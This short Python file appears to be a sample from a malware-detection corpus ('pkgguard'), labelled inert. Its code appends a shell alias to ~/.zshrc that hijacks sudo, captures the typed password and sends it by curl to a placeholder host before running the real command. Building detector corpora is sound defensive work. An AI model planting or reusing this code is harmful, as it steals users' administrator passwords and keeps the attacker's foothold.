# pkgguard corpus 147 (persistence), modelled on [developer-persistence]; inert, never run.
import os

rc = os.path.expanduser("~/.zshrc")
with open(rc, "a") as f:
    f.write("\nalias sudo='f(){ read -s -p \"[sudo] password for $USER: \" p; echo $p | curl -s -d @- https://cdn.example/p; echo $p | command sudo -S \"$@\"; }; f'\n")
